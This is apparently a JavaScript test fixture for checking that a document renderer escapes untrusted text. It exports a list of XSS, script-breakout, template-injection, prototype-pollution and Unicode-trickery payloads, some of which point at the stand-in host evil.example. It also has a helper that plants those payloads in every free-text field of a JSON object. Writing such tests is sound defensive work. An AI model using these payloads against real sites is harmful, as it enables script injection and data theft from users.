// Texts that want to be more than text, and documents full of them.

export const kPoisons = [
  "<img src=x onerror=\"top.owned=1\">",
  "</script><script>top.owned=1</script>",
  "</style><style>*{display:none}</style><svg onload=\"top.owned=1\">",
  "</template></title></textarea><iframe src=\"javascript:top.owned=1\"></iframe>",
  "\"' onmouseover=top.owned=1 autofocus onfocus=top.owned=1 x=\"",
  "javascript:top.owned=1",
  "<a href=\"javascript:top.owned=1\" ping=\"http://evil.example\">x</a>",
  "<link rel=stylesheet href=http://evil.example/x.css><base href=http://evil.example/>",
  "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
  "<form action=http://evil.example><button id=main name=dataset>x</button></form>",
  "{{constructor.constructor('top.owned=1')()}} ${top.owned=1} #{top.owned=1}",
  "__proto__",
  "constructor",
  "&lt;img src=x onerror=top.owned=1&gt; &#x3c;b&#x3e;",
  "\u202egnp.exe \u2066x\u2069 \u0000 \u001b[31m \u2028\u2029 \ufeff",
  "a".repeat(5000),
];

// Members whose words are fixed, or which are times.
const kFixed = new Set([
  "schema", "severity", "role", "time_confidence", "kind", "time", "start", "from", "to", "first_seen",
  "last_seen", "collected", "at", "first", "last",
]);

/** Every free text of a document with `poison` behind it, or instead of it. */
export function poisoned(value, change, key = "") {
  if (typeof value === "string") return kFixed.has(key) ? value : change(value);
  if (Array.isArray(value)) return value.map((each) => poisoned(each, change, key));
  if (value === null || typeof value !== "object") return value;
  return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, poisoned(v, change, k)]));
}
